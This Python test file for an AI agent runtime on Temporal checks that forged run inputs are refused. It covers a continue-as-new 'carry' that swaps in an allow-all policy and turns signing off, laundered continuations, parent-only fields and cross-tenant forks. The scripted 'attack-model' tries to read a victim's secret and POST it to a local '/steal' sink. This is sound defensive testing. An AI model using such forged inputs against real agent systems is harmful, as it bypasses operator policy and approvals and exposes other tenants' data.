"""Run input fields only the runtime sets, and forks across tenants: nobody gets in where they do not belong.

Attacks through the Temporal API, against the real dev server: a run started with a forged
continue-as-new ``carry`` (the operator's policy replaced by allow-all, signing off, another live
run's conversation and sandbox), a forged carry laundered through a real continue-as-new (a
workflow of another type continuing as new into ``AgentWorkflow``), every parent-set field sent
from outside, and forks of another tenant's run. Each must fail with ``invalid run input:
<field>: ...`` on its first workflow task (forks: in ``fork_prepare``) and get nothing of the
other run. Real continuations, a sub-agent's included, keep working.
"""

from __future__ import annotations

import asyncio
import json
import time
import uuid
from pathlib import Path
from typing import Any

import pytest
from pydantic import SecretStr
from temporalio import workflow
from temporalio.api.enums.v1 import EventType
from temporalio.client import Client, WorkflowFailureError, WorkflowHandle
from temporalio.testing import WorkflowEnvironment
from temporalio.worker import Worker

from activities.runtime import Runtime
from activities.settings import ConfigurationError, Settings
from tests.conftest import WorkerFactory, require_bwrap, start_agent, with_settings
from tests.fakes.http_sink import HttpSink
from tests.fakes.llm_server import FakeLLMServer, Scripted
from workflows.agent import AgentWorkflow
from workflows.identity import sandbox_id_for
from workflows.trust import Lineage, ancestors, input_problem
from workflows.types import AgentInput, ForkSpec, Limits, SubagentDef, TreeBudget

ALLOW_ALL = {"rules": [{"tool": "*", "decision": "allow"}]}
COMMANDS = (EventType.EVENT_TYPE_ACTIVITY_TASK_SCHEDULED, EventType.EVENT_TYPE_MARKER_RECORDED)


def call(name: str, **arguments: Any) -> tuple[str, str]:
    return name, json.dumps(arguments)


def tool_results(body: dict[str, Any]) -> list[str]:
    return [str(m["content"]) for m in body["messages"] if m["role"] == "tool"]


async def until(what: str, check: Any, deadline_s: float = 60.0) -> Any:
    """Poll ``check()`` until it returns something truthy (a generous deadline, no fixed sleep)."""
    end = time.monotonic() + deadline_s
    while time.monotonic() < end:
        found = await check()
        if found:
            return found
        await asyncio.sleep(0.1)
    raise AssertionError(f"timed out waiting for {what}")


async def refused(handle: WorkflowHandle[Any, Any]) -> tuple[str, list[EventType.ValueType]]:
    """The run's failure message and its history's event types (it must fail)."""
    with pytest.raises(WorkflowFailureError) as failure:
        await handle.result()
    history = await handle.fetch_history()
    cause = failure.value.cause
    return getattr(cause, "message", str(cause)), [event.event_type for event in history.events]


def assert_refused_before_any_command(message: str, events: list[EventType.ValueType], fragment: str) -> None:
    assert message.startswith(f"invalid run input: {fragment}"), message
    assert not any(kind in COMMANDS for kind in events), events  # no activity, no local activity
    assert events.count(EventType.EVENT_TYPE_WORKFLOW_TASK_COMPLETED) == 1
    assert EventType.EVENT_TYPE_WORKFLOW_TASK_FAILED not in events
    assert events[-1] == EventType.EVENT_TYPE_WORKFLOW_EXECUTION_FAILED


# --- a forged carry from outside --------------------------------------------------------------


def victim_and_attacker(secret: str, sink: HttpSink) -> Any:
    """The victim writes ``secret`` into its workspace, then waits for approval of a POST.

    The attacker's model (``attack-model``) reads the victim's file and POSTs it out.
    """

    def reply(body: dict[str, Any]) -> Scripted:
        done = tool_results(body)
        if body["model"] == "attack-model":
            if not done:
                return Scripted(tool_calls=[call("read_file", path="secret.txt")])
            if len(done) == 1:
                return Scripted(tool_calls=[call("http_request", method="POST", url=f"{sink.url}/steal", body=done[0])])
            return Scripted(text="stolen")
        if not done:
            return Scripted(tool_calls=[call("write_file", path="secret.txt", content=secret)])
        if len(done) == 1:
            return Scripted(tool_calls=[call("http_request", method="POST", url=f"{sink.url}/order", body="1")])
        return Scripted(text="ordered")

    return reply


async def test_a_forged_carry_gets_neither_allow_all_nor_another_runs_sandbox_or_transcript(
    dev_env: WorkflowEnvironment, runtime: Runtime, run_worker: WorkerFactory, llm: FakeLLMServer
) -> None:
    require_bwrap()
    secret = f"VICTIM-SECRET-{uuid.uuid4().hex}"
    client = dev_env.client
    rt = with_settings(runtime, approval_key=SecretStr("operator-approval-key"))
    with HttpSink() as sink:
        llm.default = victim_and_attacker(secret, sink)
        async with run_worker(client, rt) as tq:
            victim = await start_agent(client, tq, id_prefix="trust-victim", task="write the secret, then order")

            async def waiting() -> Any:
                view = await victim.query(AgentWorkflow.status)
                return view if view.pending_approvals and view.conversation_id else None

            view = await until("the victim to wait for approval", waiting)
            stored_before = len(await rt.store.transcript(view.conversation_id))
            carry = {  # what the victim's status shows, with the operator's policy and signing dropped
                "conversation_id": view.conversation_id,
                "sandbox_id": sandbox_id_for(view.conversation_id),
                "step": view.step,
                "transcript_len": stored_before,
                "usage": {"input_tokens": 0, "output_tokens": 0, "cost_usd": 0.0},
                "started_at": time.time(),
                "model": "openai:attack-model",
                "tools": ["read_file", "http_request"],
                "policy": ALLOW_ALL,
                "signing_required": False,
                "checkpoint": view.checkpoint,
            }
            attacker = await client.start_workflow(
                "AgentWorkflow",
                {"task": "anything", "carry": carry},
                id=f"trust-attacker-{uuid.uuid4().hex[:8]}",
                task_queue=tq,
            )
            message, events = await refused(attacker)
            after = await victim.query(AgentWorkflow.status)
            stored_after = len(await rt.store.transcript(view.conversation_id))
            await victim.cancel()
            await victim.result()
        await rt.aclose()

    assert_refused_before_any_command(message, events, "carry: only continue-as-new hands a run its carry")
    assert not [r for r in sink.received if r.path == "/steal"]  # no POST, approved or not
    assert not [r for r in llm.requests if r["body"].get("model") == "attack-model"]  # no transcript read
    assert secret not in message
    # The victim is untouched: still waiting for its own approval, its transcript as it was.
    assert [a.approval_id for a in after.pending_approvals] == [a.approval_id for a in view.pending_approvals]
    assert stored_after == stored_before and not [r for r in sink.received if r.path == "/order"]


# --- every parent-set field from outside ------------------------------------------------------

OUTSIDE_CASES: list[tuple[str, dict[str, Any], str]] = [
    ("depth", {"depth": 1}, "depth: only a parent run sets it for its sub-agent"),
    (
        "budget",
        {"budget": {"root": "victim/run", "max_tokens": 10**9, "max_cost_usd": 0}},
        "budget: only a sub-agent spends from a tree's budget",
    ),
    (
        "parent_conversation",
        {"parent_conversation": "victim/run"},
        "parent_conversation: only a sub-agent may work in its own parent's sandbox",
    ),
    ("checkpoint", {"checkpoint": "sha256:" + "0" * 64}, "checkpoint: only a sub-agent working in its parent's"),
]


async def test_every_parent_set_field_is_refused_from_outside_before_any_command(
    dev_env: WorkflowEnvironment, runtime: Runtime, run_worker: WorkerFactory, llm: FakeLLMServer
) -> None:
    llm.default = lambda body: Scripted(text="ran")
    client = dev_env.client
    async with run_worker(client, runtime) as tq:
        handles = [
            await client.start_workflow(
                "AgentWorkflow",
                {"task": "t", **fields},
                id=f"trust-outside-{case}-{uuid.uuid4().hex[:6]}",
                task_queue=tq,
            )
            for case, fields, _ in OUTSIDE_CASES
        ]
        outcomes = await asyncio.gather(*(refused(handle) for handle in handles))
    for (_, _, fragment), (message, events) in zip(OUTSIDE_CASES, outcomes, strict=True):
        assert_refused_before_any_command(message, events, fragment)
    assert not llm.requests


# --- a forged carry in a real continue-as-new -------------------------------------------------


@workflow.defn(name="LaunderIntoAgent", sandboxed=False)
class LaunderIntoAgent:
    """Anyone who runs a worker can continue a run of their own as new into ``AgentWorkflow``:
    the new run's ``continued_run_id`` is set, its input is theirs. ``$OWN`` becomes this run's own
    conversation id (``<workflow id>/<first run id>``)."""

    @workflow.run
    async def run(self, template: dict[str, Any], agent_queue: str) -> None:
        info = workflow.info()
        text = json.dumps(template).replace("$OWN", f"{info.workflow_id}/{info.first_execution_run_id}")
        workflow.continue_as_new(args=[json.loads(text)], workflow="AgentWorkflow", task_queue=agent_queue)


def laundered_carry(**changes: Any) -> dict[str, Any]:
    fields: dict[str, Any] = {
        "conversation_id": "$OWN",
        "step": 1,
        "transcript_len": 2,
        "usage": {"input_tokens": 0, "output_tokens": 0, "cost_usd": 0.0},
        "started_at": time.time(),
        "model": "openai:attack-model",
        "tools": ["read_file"],
    }
    return fields | changes


VICTIM = "victim-run/0193a3c4-1111-7000-8000-000000000000"
LAUNDERED: list[tuple[str, dict[str, Any], str]] = [
    ("conversation", laundered_carry(conversation_id=VICTIM), "carry: conversation_id 'victim-run/"),
    ("sandbox", laundered_carry(sandbox_id=sandbox_id_for(VICTIM)), "carry: sandbox_id 'sbx-"),
    ("shared sandbox", laundered_carry(shared_sandbox=VICTIM), "carry: shared_sandbox is not the parent's"),
    (
        "budget",
        laundered_carry(budget={"root": VICTIM, "max_tokens": 10, "max_cost_usd": 0}),
        "carry: budget.root 'victim-run/",
    ),
]


async def test_a_real_continuation_rechecks_every_identity_in_its_carry(
    dev_env: WorkflowEnvironment, runtime: Runtime, run_worker: WorkerFactory, llm: FakeLLMServer
) -> None:
    llm.default = lambda body: Scripted(text="ran")
    client = dev_env.client
    launder_queue = f"launder-{uuid.uuid4().hex[:8]}"
    launderer = Worker(client, task_queue=launder_queue, workflows=[LaunderIntoAgent])
    async with run_worker(client, runtime) as tq, launderer:
        handles = [
            await client.start_workflow(
                "LaunderIntoAgent",
                args=[{"task": "t", "carry": carry}, tq],
                id=f"trust-laundered-{case.replace(' ', '-')}-{uuid.uuid4().hex[:6]}",
                task_queue=launder_queue,
            )
            for case, carry, _ in LAUNDERED
        ]
        outcomes = []
        for handle in handles:  # the latest run: the AgentWorkflow it continued as
            latest = client.get_workflow_handle(handle.id)
            await until("the continued run", lambda h=latest: _is_agent_run(h))
            outcomes.append(await refused(latest))
    for (_, _, fragment), (message, events) in zip(LAUNDERED, outcomes, strict=True):
        assert_refused_before_any_command(message, events, fragment)
    assert not llm.requests


async def _is_agent_run(handle: WorkflowHandle[Any, Any]) -> bool:
    return (await handle.describe()).workflow_type == "AgentWorkflow"


def test_the_identity_rules_by_example() -> None:
    """What each check accepts: a sub-agent's fields from its real parent, a carry of its own chain."""
    child = Lineage(workflow_id="root/scribe/s1c0", first_run_id="r2", continued=False, parent_workflow_id="root")
    fields = {"task": "t", "depth": 1, "budget": TreeBudget(root="root/r1", max_tokens=10, max_cost_usd=0)}
    assert input_problem(AgentInput(**fields, parent_conversation="root/r1~0123456789"), child) == ""
    assert "is not a conversation of this run's parent" in input_problem(
        AgentInput(**fields, parent_conversation="root/scribe/s1c0/r2"), child
    )
    grandchild = Lineage("root/scribe/s1c0/peer/s2c1", "r3", False, "root/scribe/s1c0")
    assert list(ancestors("root/scribe/s1c0/peer/s2c1")) == ["root/scribe/s1c0/peer/s2c1", "root/scribe/s1c0", "root"]
    assert input_problem(AgentInput(**fields), grandchild) == ""
    outsider = Lineage("root/scribe", "r9", False, "root/scribe")  # a workflow named like a part of the tree
    assert "budget: root 'root/r1' is not" in input_problem(AgentInput(**fields), outsider)
    # A continuation: its own conversation (a branch too), a sandbox made before the branch.
    again = Lineage("w", "r1", True, None)
    carry: dict[str, Any] = laundered_carry(conversation_id="w/r1~0123456789", sandbox_id=sandbox_id_for("w/r1"))
    assert input_problem(AgentInput(task="t", carry=carry), again) == ""
    assert "not continued from a run of its own" in input_problem(
        AgentInput(task="t", carry=carry), Lineage("w", "r1", False, None)
    )


# --- a sub-agent continues as new with every parent-set field ---------------------------------


def scribe_model(files: int) -> Any:
    def reply(body: dict[str, Any]) -> Scripted:
        messages = body["messages"]
        done = tool_results(body)
        if messages[0]["content"] == "You are the scribe.":
            if len(done) < files:
                return Scripted(tool_calls=[call("write_file", path=f"f{len(done)}.txt", content=str(len(done)))])
            return Scripted(text=f"scribe wrote {len(done)} files")
        if done:
            return Scripted(text=done[0])
        return Scripted(tool_calls=[call("scribe", task="write the files")])

    return reply


async def test_a_sandbox_sharing_subagent_continues_as_new_with_its_parents_fields(
    can_env: WorkflowEnvironment, runtime: Runtime, run_worker: WorkerFactory, llm: FakeLLMServer
) -> None:
    require_bwrap()
    files = 12
    llm.default = scribe_model(files)
    scribe = SubagentDef(
        description="Writes files.", system_prompt="You are the scribe.", tools=["write_file"], share_sandbox=True
    )
    client = can_env.client
    async with run_worker(client, runtime) as tq:
        handle = await start_agent(
            client, tq, id_prefix="trust-can", subagents={"scribe": scribe}, limits=Limits(max_steps=30)
        )
        result = await handle.result()
        child = client.get_workflow_handle(f"{handle.id}/scribe/s1c0")
        latest = await child.fetch_history()
        description = await child.describe()

    assert result.status == "completed", result.output
    assert result.output == f"scribe wrote {files} files"
    started = latest.events[0].workflow_execution_started_event_attributes
    assert started.continued_execution_run_id, "the sub-agent should have continued as new"
    assert description.parent_id == handle.id


# --- forks across tenants ---------------------------------------------------------------------


def forkable(secret: str) -> Any:
    """Step 1 writes ``secret`` to a.txt; a fork told "check the file" reads it and answers with it."""

    def reply(body: dict[str, Any]) -> Scripted:
        messages = body["messages"]
        done = tool_results(body)
        if any(m["role"] == "user" and m["content"] == "check the file" for m in messages):
            if messages[-1]["role"] == "user":
                return Scripted(tool_calls=[call("run_shell", command="cat a.txt")])
            return Scripted(text=f"the file says: {done[-1]}")
        if not done:
            return Scripted(tool_calls=[call("write_file", path="a.txt", content=secret)])
        return Scripted(text="written")

    return reply


async def fork_of(client: Client, tq: str, source: str, tenant: str, user: str = "") -> WorkflowHandle[Any, Any]:
    return await client.start_workflow(
        AgentWorkflow.run,
        AgentInput(task="check the file", tenant=tenant, user=user, fork=ForkSpec(workflow_id=source, step=1)),
        id=f"trust-fork-{tenant or 'none'}-{user or 'none'}-{uuid.uuid4().hex[:6]}",
        task_queue=tq,
    )


async def copied_nothing(client: Client, runtime: Runtime, handle: WorkflowHandle[Any, Any]) -> None:
    """The refused fork's conversation is empty in the store, it has no workspace, and nothing ran but the fork."""
    conversation = f"{handle.id}/{(await handle.describe()).run_id}"
    assert await runtime.store.transcript(conversation) == []
    assert not (Path(runtime.settings.state_dir) / "sandboxes" / sandbox_id_for(conversation)).exists()
    history = await handle.fetch_history()
    scheduled = [
        e.activity_task_scheduled_event_attributes.activity_type.name
        for e in history.events
        if e.event_type == EventType.EVENT_TYPE_ACTIVITY_TASK_SCHEDULED
    ]
    assert scheduled == ["fork_prepare"]


async def test_a_fork_of_another_tenants_run_fails_and_copies_nothing(
    dev_env: WorkflowEnvironment, runtime: Runtime, run_worker: WorkerFactory, llm: FakeLLMServer
) -> None:
    require_bwrap()
    secret = f"ACME-SECRET-{uuid.uuid4().hex}"
    llm.default = forkable(secret)
    client = dev_env.client
    async with run_worker(client, runtime) as tq:
        source = await start_agent(client, tq, id_prefix="trust-acme", task="write it", tenant="acme")
        assert (await source.result()).status == "completed"
        requests_before = len(llm.requests)
        evil, untenanted = await fork_of(client, tq, source.id, "evil"), await fork_of(client, tq, source.id, "")
        evil_message, _ = await refused(evil)
        untenanted_message, _ = await refused(untenanted)
        await copied_nothing(client, runtime, evil)
        await copied_nothing(client, runtime, untenanted)
        assert len(llm.requests) == requests_before  # neither fork's model saw anything

        same = await fork_of(client, tq, source.id, "acme")
        forked = await same.result()
    expected = f"invalid run input: fork: {source.id} is not a run of this run's tenant"
    assert evil_message == f"{expected} (tenant 'evil'); a fork's source must have its tenant", evil_message
    assert untenanted_message.startswith(f"{expected} (no tenant)"), untenanted_message
    assert secret not in evil_message + untenanted_message
    assert forked.status == "completed" and secret in forked.output  # the same tenant forks as before


async def test_agent_allow_fork_input_0_refuses_every_fork(
    dev_env: WorkflowEnvironment, runtime: Runtime, run_worker: WorkerFactory, llm: FakeLLMServer
) -> None:
    require_bwrap()
    llm.default = forkable("plain")
    client = dev_env.client
    rt = with_settings(runtime, allow_fork_input=False)
    async with run_worker(client, rt) as tq:
        source = await start_agent(client, tq, id_prefix="trust-nofork", task="write it")
        assert (await source.result()).status == "completed"
        fork = await fork_of(client, tq, source.id, "")
        message, _ = await refused(fork)
        await copied_nothing(client, rt, fork)
    await rt.aclose()
    assert message == (
        "invalid run input: fork: forking from run input is turned off on this worker (AGENT_ALLOW_FORK_INPUT=0)"
    )


def test_agent_allow_fork_input_is_a_flag() -> None:
    assert Settings.from_env({}).allow_fork_input is True
    assert Settings.from_env({"AGENT_ALLOW_FORK_INPUT": "0"}).allow_fork_input is False
    assert Settings.from_env({"AGENT_ALLOW_FORK_INPUT": "yes"}).allow_fork_input is True
    with pytest.raises(ConfigurationError, match="AGENT_ALLOW_FORK_INPUT='maybe': expected 1 or 0"):
        Settings.from_env({"AGENT_ALLOW_FORK_INPUT": "maybe"})
